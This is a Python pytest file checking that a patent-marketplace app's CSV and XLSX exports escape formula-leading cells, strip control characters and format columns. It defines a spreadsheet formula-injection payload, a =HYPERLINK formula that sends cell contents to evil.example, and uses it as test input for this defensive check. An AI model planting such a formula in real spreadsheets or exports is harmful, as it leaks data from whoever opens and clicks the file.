"""Every export neutralises formula-leading cells and never fails on control characters (issue 11)."""
from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from marketplace.core.spreadsheets import safe_cell, to_csv, to_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.mark.parametrize("value, expected", [
    (HYPERLINK, "'" + HYPERLINK), ("+86 851 1234", "'+86 851 1234"), ("-2+3", "'-2+3"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("锂电池=正极", "锂电池=正极"), ("ZR2025\x07520000001", "ZR2025520000001"),
    (Decimal("-5.00"), Decimal("-5.00")), (-3, -3), (None, None), (True, True), (date(2025, 1, 2), date(2025, 1, 2)),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_csv_cells_are_text_and_amounts_keep_two_places():
    rows = list(csv.reader(io.StringIO(to_csv(["名称", "金额"], [[HYPERLINK, Decimal("12.5")]]).decode("utf-8-sig"))))
    assert rows == [["名称", "金额"], ["'" + HYPERLINK, "12.50"]]


def test_xlsx_stores_formulas_as_text_and_survives_control_characters():
    data = to_xlsx([("交易\x00明细", ["名称", "登记号", "金额"], [[HYPERLINK, "ZR\x1b2025", Decimal("120000.00")]])])
    sheet = load_workbook(io.BytesIO(data)).active
    title, number, amount = [cell for cell in sheet[2]]
    assert title.data_type == "s" and title.value == "'" + HYPERLINK
    assert number.value == "ZR2025" and amount.value == 120000 and amount.number_format == "#,##0.00"
    assert sheet.title == "交易明细"


def test_console_exports_neutralise_a_formula_title(client, token_for, agency, university, company, app):
    """Issue 11: a deal titled =HYPERLINK(...) became a live formula in the XLSX export."""
    from marketplace.core import transaction
    from marketplace.deals import services as deals
    from tests import factories
    with app.test_request_context():
        patent = factories.make_granted_patent(university)
        deal = deals.record_deal(agency.load(), {
            "mode": "transfer", "seller_id": university.organisation_id, "buyer_id": company.organisation_id,
            "patent_ids": [patent.id], "amount": "800000.00", "status": "signed", "title": HYPERLINK})
        transaction.commit()
        factories.approve("deal", deal.id, university, company)  # signed once both parties consent
    headers = token_for(agency)
    book = load_workbook(io.BytesIO(client.get("/api/v1/exports/deals.xlsx", headers=headers).data))
    titles = [row[4] for row in book.active.iter_rows(min_row=2, values_only=True)]
    assert "'" + HYPERLINK in titles and HYPERLINK not in titles
    exported = client.get("/api/v1/exports/deals.csv", headers=headers)
    assert exported.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[1][4] == "'" + HYPERLINK


def test_every_export_is_named_the_same_way():
    from datetime import date

    from marketplace.core.spreadsheets import attachment
    assert attachment("console-items", date(2026, 1, 1), None, fmt="csv") == {
        "Content-Disposition": 'attachment; filename="console-items-2026-01-01.csv"'}
    assert attachment("annual-fees", 2026, "Q4", fmt="xlsx")["Content-Disposition"].endswith('"annual-fees-2026-q4.xlsx"')


def test_xlsx_types_dates_keeps_links_as_text_and_names_every_sheet_as_excel_accepts():
    data = to_xlsx([("2026/12 [月]", ["日期", "网址", "是否"], [[date(2026, 12, 2), "https://evil.example/x", True]]),
                    ("2026/12 [月]", ["空"], [[None]])])
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["2026 12  月", "2026 12  月1"]
    day, link, flag = book.worksheets[0][2]
    assert day.is_date and day.value.date() == date(2026, 12, 2) and day.number_format == "yyyy-mm-dd"
    assert link.data_type == "s" and link.hyperlink is None and flag.value is True
    assert book.worksheets[0]["A1"].font.b and book.worksheets[0].freeze_panes == "A2"


def test_xlsx_formats_follow_each_column_and_an_empty_sheet_keeps_its_header():
    from datetime import datetime, timezone
    data = to_xlsx([("台账", ["年度", "金额", "截止日", "记录时间", "说明"],
                     [[15, None, "", datetime(2026, 12, 2, 9, 30, tzinfo=timezone.utc), "x" * 40_000],
                      [16, Decimal("900.50"), date(2026, 12, 1), None, "=1+1"]]),
                    ("空表", ["申请号", "专利名称"], [])])
    book = load_workbook(io.BytesIO(data))
    first, second = book.worksheets[0][2], book.worksheets[0][3]
    assert first[0].value == 15 and first[0].number_format == "General"
    assert second[1].value == 900.5 and second[1].number_format == "#,##0.00"
    assert second[2].is_date and second[2].number_format == "yyyy-mm-dd"
    assert first[3].value == datetime(2026, 12, 2, 9, 30) and first[3].number_format == "yyyy-mm-dd hh:mm:ss"
    assert len(first[4].value) == 32_767 and second[4].value == "'=1+1" and second[4].data_type == "s"
    empty = book.worksheets[1]
    assert [cell.value for cell in empty[1]] == ["申请号", "专利名称"] and empty.max_row == 1
    assert empty["A1"].font.b and empty.freeze_panes == "A2"


def test_xlsx_refuses_a_repeated_header_rather_than_drop_a_column():
    with pytest.raises(ValueError, match="repeats a header"):
        to_xlsx([("s", ["金额", "金额"], [[1, 2]])])
